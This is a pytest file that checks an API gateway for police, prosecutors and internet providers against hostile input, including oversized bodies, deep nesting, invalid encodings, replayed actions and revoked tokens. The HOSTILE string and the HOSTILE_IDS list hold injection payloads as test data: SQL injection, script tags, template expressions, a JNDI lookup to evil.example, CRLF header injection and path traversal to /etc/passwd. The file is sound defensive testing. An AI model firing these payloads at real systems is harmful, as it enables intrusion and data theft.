"""Hostile input beyond the request body's fields (``test_hostile_bodies.py``): oversized and
streamed bodies on every kind of endpoint, deep nesting, bytes that are not UTF-8, odd digits,
traversal and injection strings in ids and in free text (stored verbatim, shown escaped),
replayed provider actions and a revoked provider's token. Never a 5xx, never a record."""

from __future__ import annotations

import http.client
import json
import re
import socket
import threading
import time
import urllib.parse
from typing import Any

import pytest
from slice_driver import PASSWORD, events_of, issued_order, preservation_request, wait_for

from cp247 import totp
from cp247.clock import utcnow
from services.gateway.api import MAX_BODY_BYTES, MAX_JSON_DEPTH
from services.isp_liaison.domain import ProviderOrder

NOBODY = "00000000-0000-4000-8000-000000000000"  # a well-formed id of nothing
BIG = MAX_BODY_BYTES + 1_000_000
RECORDING = ("intake", "preservation", "isp_liaison", "mla")
HOSTILE = (
    "' OR 1=1 -- ; DROP TABLE cases; <script>alert(1)</script> {{7*7}} ${7*7} "
    "${jndi:ldap://evil.example/a} \r\nX-Injected: yes\x00 \u202e ../../etc/passwd %2e%2e%2f"
)


# --- helpers --------------------------------------------------------------------------------
def _unsigned(order: ProviderOrder) -> bool:
    return not order.signed


def heads(platform) -> dict[str, int]:
    """Where the recording services' outboxes stand once every pending event is applied
    (anything recorded after that moves one)."""
    isp = platform.apps["isp_liaison"]  # documents are signed beside delivery (issue 19)
    wait_for(lambda: not list(isp.still_open(ProviderOrder, _unsigned)), what="orders signed")
    platform.deliver()
    return {name: platform.apps[name].outbox_head() for name in RECORDING}


def send(
    api,
    method: str,
    path: str,
    token: str | None = None,
    body: bytes | None = None,
    content_type: str = "application/json",
    chunked: bool = False,
) -> tuple[int, dict[str, str], bytes]:
    """One request exactly as given (path as it is, body as bytes or streamed in chunks)."""
    url = urllib.parse.urlparse(api.base_url)
    connection = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
    headers = {"Content-Type": content_type}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    payload: Any = body
    if chunked:
        payload = (body[i : i + 65536] for i in range(0, len(body or b""), 65536))
    try:
        connection.request(method, path, body=payload, headers=headers, encode_chunked=chunked)
        response = connection.getresponse()
        return response.status, dict(response.getheaders()), response.read()
    except (BrokenPipeError, ConnectionResetError):  # refused before it was all sent
        response = connection.getresponse()
        return response.status, dict(response.getheaders()), response.read()
    finally:
        connection.close()


def error_of(status: int, raw: bytes) -> str:
    """The API error code of a JSON error body (asserting it is one, with no trace)."""
    text = raw.decode("utf-8")
    assert "Traceback" not in text and "internal_error" not in text, (status, text[:500])
    return json.loads(text)["error"]


# Every endpoint that takes a body, with a role allowed to call it; ids need not exist (the
# body is refused before anything is looked up).
BODY_ENDPOINTS = [
    ("police", "/api/v1/requests"),
    ("police", f"/api/v1/cases/{NOBODY}/lead"),
    ("police", f"/api/v1/cases/{NOBODY}/preservation-orders"),
    ("police", f"/api/v1/cases/{NOBODY}/mla"),
    ("police", f"/api/v1/mla/{NOBODY}/status"),
    ("police", f"/api/v1/preservation-orders/{NOBODY}/extend"),
    ("police", f"/api/v1/preservation-orders/{NOBODY}/release"),
    ("prosecution", f"/api/v1/requests/{NOBODY}/refuse"),
    ("police", f"/api/v1/requests/{NOBODY}/art29-6-notice"),
    ("police", f"/api/v1/cases/{NOBODY}/near-duplicates/{NOBODY}"),
    ("admin", "/api/v1/contact-points"),
    ("admin", "/api/v1/contact-points/import"),
    ("isp_a", f"/api/v1/isp/orders/{NOBODY}/preserved"),
    ("isp_a", f"/api/v1/isp/orders/{NOBODY}/unavailable"),
    ("isp_a", f"/api/v1/isp/orders/{NOBODY}/foreign-provider"),
    (None, "/api/v1/login"),
]


# --- size -----------------------------------------------------------------------------------
@pytest.mark.parametrize(("role", "path"), BODY_ENDPOINTS, ids=[p for _, p in BODY_ENDPOINTS])
def test_a_body_beyond_the_limit_is_413_on_every_endpoint(embedded, tokens, role, path):
    api, _, platform = embedded
    before = heads(platform)
    kind = "text/csv" if path.endswith("/import") else "application/json"
    body = b'{"a": "' + b"x" * BIG + b'"}'
    status, _, raw = send(api, "POST", path, tokens.get(role), body, kind)
    assert status == 413 and error_of(status, raw) == "payload_too_large", raw[:300]
    assert heads(platform) == before


@pytest.mark.parametrize(
    ("role", "path"),
    [("police", "/api/v1/requests"), ("admin", "/api/v1/contact-points/import"),
     ("isp_a", f"/api/v1/isp/orders/{NOBODY}/preserved"), (None, "/api/v1/login")],
)  # fmt: skip
def test_a_streamed_body_without_a_length_is_held_to_the_same_limit(embedded, tokens, role, path):
    """Transfer-Encoding: chunked announces no length: the limit applies as it streams in."""
    api, _, platform = embedded
    before = heads(platform)
    kind = "text/csv" if path.endswith("/import") else "application/json"
    body = b'{"a": "' + b"x" * BIG + b'"}'
    status, _, raw = send(api, "POST", path, tokens.get(role), body, kind, chunked=True)
    assert status == 413 and error_of(status, raw) == "payload_too_large", raw[:300]
    assert heads(platform) == before
    # A streamed body within the limit is read whole, like any other.
    small = json.dumps(preservation_request("CHUNKED-1")).encode()
    status, _, raw = send(api, "POST", "/api/v1/requests", tokens["police"], small, chunked=True)
    assert status == 201, raw[:300]


@pytest.mark.parametrize("path", ["/login", "/portal/login"])
def test_a_login_form_beyond_the_limit_is_a_413_page(embedded, tokens, path):
    api, _, _ = embedded
    form = b"username=pat&password=" + b"x" * BIG
    status, headers, raw = send(api, "POST", path, None, form, "application/x-www-form-urlencoded")
    page = raw.decode("utf-8")
    assert status == 413 and headers["Content-Type"].startswith("text/html"), page[:300]
    assert "too large" in page and "Traceback" not in page


# --- nesting --------------------------------------------------------------------------------
DEEP = 100_000
NESTINGS = {
    "arrays": b"[" * DEEP + b"]" * DEEP,
    "objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "in a field": b'{"note": ' + b"[" * DEEP + b"]" * DEEP + b"}",
    "just past the limit": b'{"a":' * (MAX_JSON_DEPTH + 1) + b"1" + b"}" * (MAX_JSON_DEPTH + 1),
    "below the parser's limit": b'{"a":' * 900 + b"1" + b"}" * 900,
}


@pytest.mark.parametrize("shape", NESTINGS, ids=list(NESTINGS))
@pytest.mark.parametrize(
    ("role", "path"),
    [("police", "/api/v1/requests"), (None, "/api/v1/login"),
     ("admin", "/api/v1/contact-points"), ("isp_a", f"/api/v1/isp/orders/{NOBODY}/preserved"),
     ("police", f"/api/v1/cases/{NOBODY}/mla")],
)  # fmt: skip
def test_deeply_nested_json_is_a_400(embedded, tokens, role, path, shape):
    api, _, platform = embedded
    before = heads(platform)
    status, _, raw = send(api, "POST", path, tokens.get(role), NESTINGS[shape])
    assert status == 400 and error_of(status, raw) == "bad_request", raw[:300]
    assert heads(platform) == before


def test_brackets_inside_a_string_are_only_text(embedded, tokens):
    api, _, _ = embedded
    body = preservation_request("BRACKETS-1")
    body["offence"]["description"] = "[" * 10_000 + "{" * 5_000
    status, created = api.call("POST", "/api/v1/requests", tokens["police"], body)
    assert status == 201, created
    _, stored = api.call("GET", f"/api/v1/requests/{created['request_id']}", tokens["police"])
    assert stored["details"]["offence"]["description"] == body["offence"]["description"]
    nested_ok = {"follow_up": {"feedback_requested": True}}  # ordinary nesting is fine
    status, _ = api.call(
        "POST", "/api/v1/requests", tokens["police"], preservation_request("NEST-OK", **nested_ok)
    )
    assert status == 201


# --- encoding -------------------------------------------------------------------------------
NOT_PLAIN_JSON = {
    "invalid byte in a string": b'{"reason": "gone \xff\xfe"}',
    "overlong encoding": b'{"reason": "\xc0\xaf\xc0\xaf"}',
    "encoded surrogate (CESU-8)": b'{"reason": "\xed\xa0\x80"}',
    "latin-1 text": '{"reason": "donn\xe9es effac\xe9es"}'.encode("latin-1"),
    "lone surrogate escape": b'{"reason": "\\ud800"}',
    "lone surrogate in a key": b'{"\\udfff": 1, "reason": "x"}',
    "NaN": b'{"reason": "x", "records": NaN}',
    "Infinity": b'{"reason": "x", "records": -Infinity}',
}


@pytest.mark.parametrize("raw", NOT_PLAIN_JSON.values(), ids=list(NOT_PLAIN_JSON))
def test_a_body_that_is_not_utf8_json_text_is_a_400_and_changes_nothing(embedded, tokens, raw):
    api, _, platform = embedded
    order = issued_order(api, tokens, "UTF8-1")
    path = f"/api/v1/isp/orders/{order['order_id']}/unavailable"
    before = heads(platform)
    status, _, answer = send(api, "POST", path, tokens["isp_a"], raw)
    assert status == 400 and error_of(status, answer) == "bad_request", answer[:300]
    for role, other in (
        (None, "/api/v1/login"),
        ("admin", "/api/v1/contact-points"),
        ("police", f"/api/v1/cases/{order['case_id']}/mla"),
        ("prosecution", f"/api/v1/requests/{NOBODY}/art29-6-notice"),
    ):
        status, _, answer = send(api, "POST", other, tokens.get(role), raw)
        assert status == 400 and error_of(status, answer) == "bad_request", (other, answer)
    assert heads(platform) == before
    assert (
        api.call("GET", f"/api/v1/isp/orders/{order['order_id']}", tokens["isp_a"])[1]["status"]
        == "issued"
    )


@pytest.mark.parametrize(
    ("role", "path", "expected"),
    [
        ("police", "/api/v1/cases/%ff%fe", 404),
        ("police", "/api/v1/cases/%c0%af/timeline", 404),
        ("police", "/api/v1/requests/%ed%a0%80", 404),
        ("isp_a", "/api/v1/isp/orders/%ff", 404),
        ("police", "/api/v1/contact-points/%ff/%fe", 404),
        ("police", "/api/v1/cases?status=%ff&country=%c0%af", 200),
        ("isp_a", "/api/v1/isp/orders?status=%ff", 200),
        ("oversight", "/api/v1/stats?year=%ff", 422),
        ("oversight", "/api/v1/stats?year=", 422),  # given, but no year: not this year
        ("oversight", "/api/v1/stats?year=%C2%B2", 422),  # "²": a digit to str.isdigit()
        ("oversight", "/api/v1/stats?year=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96", 422),  # "２０２６"
        ("oversight", "/api/v1/stats?year=%D9%A2%D9%A0%D9%A2%D9%A6", 422),  # Arabic-Indic
        ("police", "/api/v1/contact-points?country=%C3%9F", 422),  # "ß".upper() == "SS"
        ("police", "/api/v1/contact-points/%C3%9F/police", 404),
        ("admin", "/api/v1/audit/reads?target=case:%ff", 200),
        (None, "/api/v1/alerts/ack?token=%ff%fe.%00", 404),
    ],
)
def test_bytes_that_are_not_utf8_and_odd_digits_in_path_and_query(
    embedded, tokens, role, path, expected
):
    api, cli, _ = embedded
    if role == "oversight":
        cli.ok("users", "add", "--username", "ovi", "--role", "oversight", "--password", PASSWORD)
        tokens = {"oversight": cli.ok("tokens", "issue", "--username", "ovi")}
    status, headers, raw = send(api, "GET", path, tokens.get(role))
    assert status == expected, raw[:300]
    if path.startswith("/api/v1/alerts/ack"):  # an e-mailed link: a page for a person
        assert headers["Content-Type"].startswith("text/html") and b"not valid" in raw
        return
    assert headers["Content-Type"].startswith("application/json")
    if status >= 400:
        error_of(status, raw)


@pytest.mark.parametrize("year", ["%C2%B2", "%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96", "%ff", ""])
@pytest.mark.parametrize("page", ["/oversight", "/oversight/export.csv", "/oversight/export.json"])
def test_the_oversight_pages_take_only_ascii_years(embedded, page, year):
    """A year the page cannot read shows this year's figures, never an error page."""
    api, cli, _ = embedded
    cli.ok("users", "add", "--username", "ovi", "--role", "oversight", "--password", PASSWORD)
    uri = cli.ok("users", "enrol-totp", "--username", "ovi")  # oversight has one too
    secret = urllib.parse.parse_qs(urllib.parse.urlparse(uri).query)["secret"][0]
    login = {"username": "ovi", "password": PASSWORD, "totp": totp.code_at(secret, time.time())}
    body = logged_in_page(api, login, f"{page}?year={year}")
    assert str(utcnow().year) in body


def test_a_contact_point_country_must_be_ascii(embedded, tokens):
    api, _, _ = embedded
    entry = {
        "country": "\u00df", "kind": "police", "name": "Not a country",
        "institutional_email": "cp@example.org", "time_zone": "Europe/Berlin",
        "can_order_preservation": True, "languages": ["\u212ao"],  # Kelvin sign lowers to "k"
    }  # fmt: skip
    status, body = api.call("POST", "/api/v1/contact-points", tokens["admin"], entry)
    assert status == 422 and {"country", "languages.0"} <= set(body["fields"]), body
    status, body = api.call("GET", "/api/v1/contact-points?country=SS", tokens["admin"])
    assert status == 200 and body["contact_points"] == []


def test_raw_bytes_in_the_request_line_are_a_404_not_a_crash(embedded, tokens):
    api, _, _ = embedded
    url = urllib.parse.urlparse(api.base_url)
    with socket.create_connection((url.hostname, url.port), timeout=30) as sock:
        sock.sendall(
            b"GET /api/v1/cases/\xff\xfe\x80/timeline HTTP/1.1\r\nHost: x\r\n"
            b"Authorization: Bearer " + tokens["police"].encode() + b"\r\nConnection: close\r\n\r\n"
        )
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    assert answer.startswith(b"HTTP/1.1 404"), answer[:300]
    assert b"Traceback" not in answer


# --- traversal and injection in ids ---------------------------------------------------------
HOSTILE_IDS = [
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "a%00b",
    "%00",
    "' OR 1=1 --",
    "1; DROP TABLE cases",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "x%0d%0aSet-Cookie:%20cp247_session=evil",
    "x\r\nX-Injected: yes",
]
ID_ENDPOINTS = [
    ("police", "GET", "/api/v1/cases/{}"),
    ("police", "GET", "/api/v1/cases/{}/timeline"),
    ("police", "GET", "/api/v1/cases/{}/messages"),
    ("police", "GET", "/api/v1/requests/{}"),
    ("police", "GET", "/api/v1/requests/{}/letter"),
    ("police", "GET", "/api/v1/preservation-orders/{}"),
    ("police", "GET", "/api/v1/preservation-orders/{}/document"),
    ("police", "GET", "/api/v1/mla/{}"),
    ("police", "GET", "/api/v1/contact-points/{}/police"),
    ("isp_a", "GET", "/api/v1/isp/orders/{}"),
    ("isp_a", "GET", "/api/v1/isp/orders/{}/document.sig"),
    ("isp_a", "POST", "/api/v1/isp/orders/{}/acknowledge"),
    ("prosecution", "POST", "/api/v1/preservation-orders/{}/approve"),
    ("police", "POST", "/api/v1/alerts/{}/acknowledge"),
]


@pytest.mark.parametrize(("role", "method", "template"), ID_ENDPOINTS)
def test_traversal_and_injection_in_ids_find_nothing(embedded, tokens, role, method, template):
    api, _, platform = embedded
    issued_order(api, tokens, "IDS-1")  # something there to find, were a query injectable
    before = heads(platform)
    for hostile in HOSTILE_IDS:
        # As a client would send it (one path segment), and as typed (slashes, dots kept).
        for segment in {urllib.parse.quote(hostile, safe=""), urllib.parse.quote(hostile)}:
            path = template.format(segment)
            status, headers, raw = send(api, method, path, tokens[role])
            text = raw.decode("utf-8", "replace")
            assert status in (404, 405), (path, status, text[:300])
            assert headers["Content-Type"].startswith("application/json"), (path, headers)
            assert error_of(status, raw) in ("not_found", "method_not_allowed"), (path, text)
            assert "Set-Cookie" not in headers and "X-Injected" not in headers, (path, headers)
            assert "root:" not in text and "[fonts]" not in text and "49" not in text
    assert heads(platform) == before


@pytest.mark.parametrize(
    "path",
    ["/static/../../pyproject.toml", "/static/..%2f..%2f..%2fpyproject.toml",
     "/static/%2e%2e/%2e%2e/pyproject.toml", "/static/..%5c..%5cpyproject.toml",
     "/static/app.css%00.txt", "/static/%2e%2e%2fapi.py", "/static/....//....//pyproject.toml"],
)  # fmt: skip
def test_static_files_do_not_reach_outside_their_folder(embedded, path):
    api, _, _ = embedded
    status, _, raw = send(api, "GET", path)
    assert status == 404, raw[:300]
    assert b"[project]" not in raw and b"import " not in raw


# --- free text: stored verbatim, shown escaped ----------------------------------------------
def console_page(api, platform, path: str) -> str:
    """The page as pat (prosecution) sees it after logging in through the console."""
    uri = platform.apps["gateway"].enrol_second_factor("pat")
    secret = urllib.parse.parse_qs(urllib.parse.urlparse(uri).query)["secret"][0]
    login = {"username": "pat", "password": PASSWORD, "totp": totp.code_at(secret, time.time())}
    return logged_in_page(api, login, path)


def logged_in_page(api, login: dict[str, str], path: str) -> str:
    """The page (200) after logging in through the console's form with ``login``."""
    form = urllib.parse.urlencode(login).encode()
    status, headers, _ = send(
        api, "POST", "/login", None, form, "application/x-www-form-urlencoded"
    )
    assert status == 303, headers
    cookie = re.search(r"cp247_session=([^;]+)", headers["Set-Cookie"]).group(1)
    url = urllib.parse.urlparse(api.base_url)
    connection = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
    connection.request("GET", path, headers={"Cookie": f"cp247_session={cookie}"})
    response = connection.getresponse()
    page = response.read().decode("utf-8")
    connection.close()
    assert response.status == 200, page[:500]
    return page


def test_free_text_is_stored_verbatim_and_shown_escaped(embedded, tokens):
    api, _, platform = embedded
    body = preservation_request("VERBATIM-1")
    body["requesting_authority"]["person"] = HOSTILE
    body["offence"].update(description=HOSTILE, summary_of_facts=HOSTILE, provisions=HOSTILE)
    body["data"]["relationship_to_offence"] = HOSTILE
    body["necessity"] = HOSTILE
    body["responsible_authority"] = {"name": HOSTILE, "case_number": HOSTILE}
    status, created = api.call("POST", "/api/v1/requests", tokens["prosecution"], body)
    assert status == 201, created
    _, stored = api.call("GET", f"/api/v1/requests/{created['request_id']}", tokens["police"])
    details = stored["details"]
    assert stored["requesting_authority"]["person"] == HOSTILE
    assert details["offence"]["description"] == HOSTILE
    assert details["offence"]["summary_of_facts"] == HOSTILE
    assert details["offence"]["provisions"] == HOSTILE
    assert details["relationship_to_offence"] == details["necessity"] == HOSTILE
    assert details["responsible_authority"]["name"] == HOSTILE

    # The provider's and the officers' own free text, each answered back as sent.
    order = wait_for(
        lambda: next(
            (o for o in api.call("GET", "/api/v1/isp/orders", tokens["isp_a"])[1]["orders"]
             if o["case_id"] == created["case_id"]), None),
        what="the order in the inbox",
    )  # fmt: skip
    isp = f"/api/v1/isp/orders/{order['order_id']}"
    status, preserved = api.call("POST", f"{isp}/preserved", tokens["isp_a"], {"note": HOSTILE})
    assert status == 200 and preserved["outcome"]["note"] == HOSTILE, preserved
    report = {"country": "DE", "provider_name": HOSTILE, "details": HOSTILE}
    status, reported = api.call("POST", f"{isp}/foreign-provider", tokens["isp_a"], report)
    assert status == 200, reported
    assert reported["foreign_providers"][0]["details"] == HOSTILE
    assert reported["foreign_providers"][0]["provider_name"] == HOSTILE.strip()
    case = f"/api/v1/cases/{created['case_id']}"
    status, mla = api.call(
        "POST", f"{case}/mla", tokens["prosecution"],
        {"direction": "incoming", "reference": HOSTILE[:500], "date": HOSTILE[:500]},
    )  # fmt: skip
    assert status == 201 and mla["reference"] == HOSTILE[:500], mla
    status, moved = api.call(
        "POST", f"/api/v1/mla/{mla['mla_id']}/status", tokens["prosecution"],
        {"status": "executing", "note": HOSTILE},
    )  # fmt: skip
    assert status == 200 and moved["history"][-1]["note"] == HOSTILE, moved
    status, noticed = api.call(
        "POST", f"/api/v1/requests/{created['request_id']}/art29-6-notice", tokens["prosecution"],
        {"reason": "prejudice", "explanation": HOSTILE},
    )  # fmt: skip
    assert status == 200 and noticed["art29_6_notices"][0]["explanation"] == HOSTILE, noticed

    wait_for(
        lambda: (
            api.call("GET", case, tokens["police"])[1]["preservation_orders"][0]["status"]
            == "preserved"
        ),
        what="the outcome at preservation",
    )
    page = console_page(api, platform, f"/console/cases/{created['case_id']}")
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "{{7*7}}" in page and "${7*7}" in page  # shown, not evaluated
    assert "&#39; OR 1=1 --" in page or "&#x27; OR 1=1 --" in page
    assert page.count("&lt;script&gt;") >= 5  # the request's text and the others' notes
    assert "X-Injected" not in str(send(api, "GET", "/healthz")[1])


# --- replayed provider actions --------------------------------------------------------------
def test_a_replayed_earlier_action_changes_nothing(embedded, tokens):
    api, _, platform = embedded
    order = issued_order(api, tokens, "REPLAY-1")
    isp = f"/api/v1/isp/orders/{order['order_id']}"
    heads(platform)  # its document signed first: the answers below must not change with it
    first_ack = api.call("POST", f"{isp}/acknowledge", tokens["isp_a"])
    assert first_ack[0] == 200 and first_ack[1]["status"] == "acknowledged"
    preserved = api.call(
        "POST", f"{isp}/preserved", tokens["isp_a"], {"note": "kept", "records": 3}
    )
    assert preserved[0] == 200 and preserved[1]["status"] == "preserved"
    wait_for(
        lambda: (
            {"ProviderAcknowledgedOrder", "DataPreserved"}
            <= set(events_of(api, tokens, order["case_id"]))
        ),
        what="both actions on the timeline",
    )
    before = heads(platform)
    # The earlier action again, after the later one: the order as it stands, nothing new.
    for _ in range(3):
        status, again = api.call("POST", f"{isp}/acknowledge", tokens["isp_a"])
        assert status == 200 and again == preserved[1], again
    # The later one again, even with another body: the first answer, nothing new.
    changed = {"note": "something else", "records": 99}
    assert api.call("POST", f"{isp}/preserved", tokens["isp_a"], changed) == preserved
    assert api.call("POST", f"{isp}/preserved", tokens["isp_a"]) == preserved
    status, body = api.call("POST", f"{isp}/unavailable", tokens["isp_a"], {"reason": "gone"})
    assert status == 409 and body["error"] == "conflict", body
    assert heads(platform) == before
    assert api.call("GET", isp, tokens["isp_a"]) == (200, preserved[1])
    events = events_of(api, tokens, order["case_id"])
    assert events.count("ProviderAcknowledgedOrder") == 1 and events.count("DataPreserved") == 1
    _, cp_view = api.call(
        "GET", f"/api/v1/preservation-orders/{order['order_id']}", tokens["police"]
    )
    assert cp_view["status"] == "preserved" and cp_view["outcome"]["records"] == 3


def test_the_same_action_sent_at_once_many_times_is_recorded_once(embedded, tokens):
    api, _, platform = embedded
    order = issued_order(api, tokens, "REPLAY-2")
    isp = f"/api/v1/isp/orders/{order['order_id']}"
    heads(platform)  # its document signed first: the answers below must not change with it

    def replay_at_once(action: str, body: Any, times: int = 8) -> list[tuple[int, Any]]:
        answers: list[tuple[int, Any]] = []
        barrier = threading.Barrier(times)

        def replay() -> None:
            barrier.wait()
            answers.append(api.call("POST", f"{isp}/{action}", tokens["isp_a"], body))

        threads = [threading.Thread(target=replay) for _ in range(times)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return answers

    for action, body in (("acknowledge", None), ("preserved", {"note": "kept"})):
        answers = replay_at_once(action, body)
        assert len(answers) == 8 and all(answer == answers[0] for answer in answers), answers
        assert answers[0][0] == 200
    wait_for(
        lambda: "DataPreserved" in events_of(api, tokens, order["case_id"]),
        what="the outcome on the timeline",
    )
    platform.deliver()
    events = events_of(api, tokens, order["case_id"])
    assert events.count("ProviderAcknowledgedOrder") == 1 and events.count("DataPreserved") == 1


def test_replays_after_the_order_was_released(embedded, tokens):
    api, _, platform = embedded
    order = issued_order(api, tokens, "REPLAY-3")
    isp = f"/api/v1/isp/orders/{order['order_id']}"
    acknowledged = api.call("POST", f"{isp}/acknowledge", tokens["isp_a"])
    assert acknowledged[0] == 200
    status, _ = api.call(
        "POST", f"/api/v1/preservation-orders/{order['order_id']}/release",
        tokens["prosecution"], {"reason": "the requester withdrew the request"},
    )  # fmt: skip
    assert status == 200
    wait_for(
        lambda: api.call("GET", isp, tokens["isp_a"])[1]["status"] == "released",
        what="the release at the provider",
    )
    before = heads(platform)
    status, again = api.call("POST", f"{isp}/acknowledge", tokens["isp_a"])
    assert status == 200 and again["status"] == "released", again
    assert again["acknowledged_at"] == acknowledged[1]["acknowledged_at"]
    status, body = api.call("POST", f"{isp}/preserved", tokens["isp_a"], {"note": "too late"})
    assert status == 409 and body["error"] == "conflict", body
    assert heads(platform) == before


# --- a revoked provider token ---------------------------------------------------------------
def test_a_revoked_provider_token_is_refused_everywhere_and_records_nothing(embedded, tokens):
    api, cli, platform = embedded
    order = issued_order(api, tokens, "REVOKED-1")
    isp = f"/api/v1/isp/orders/{order['order_id']}"
    assert api.call("GET", isp, tokens["isp_a"])[0] == 200
    cli.ok("tokens", "revoke", tokens["isp_a"])
    before = heads(platform)
    calls = [
        ("GET", "/api/v1/isp/orders", None),
        ("GET", "/api/v1/isp/orders?status=issued", None),
        ("GET", isp, None),
        ("GET", f"{isp}/document", None),
        ("GET", f"{isp}/document.sig", None),
        ("POST", f"{isp}/acknowledge", None),
        ("POST", f"{isp}/preserved", {"note": "kept", "records": 1}),
        ("POST", f"{isp}/unavailable", {"reason": "gone"}),
        ("POST", f"{isp}/foreign-provider", {"country": "DE", "provider_name": "B GmbH"}),
    ]
    for method, path, body in calls:
        raw = None if body is None else json.dumps(body).encode()
        status, headers, answer = send(api, method, path, tokens["isp_a"], raw)
        assert status == 401 and error_of(status, answer) == "unauthorized", (path, answer)
        assert headers.get("WWW-Authenticate", "").startswith("Bearer"), (path, headers)
    status, _, page = send(
        api, "POST", "/portal/login", None,
        urllib.parse.urlencode({"token": tokens["isp_a"]}).encode(),
        "application/x-www-form-urlencoded",
    )  # fmt: skip
    assert status == 401, page[:300]
    assert heads(platform) == before
    # Nothing happened to the order; a new token of the same provider still works.
    fresh = cli.ok("tokens", "issue", "--provider", "telco-a")
    status, current = api.call("GET", isp, fresh)
    assert status == 200 and current["status"] == "issued" and current["acknowledged_at"] is None
    assert "ProviderAcknowledgedOrder" not in events_of(api, tokens, order["case_id"])
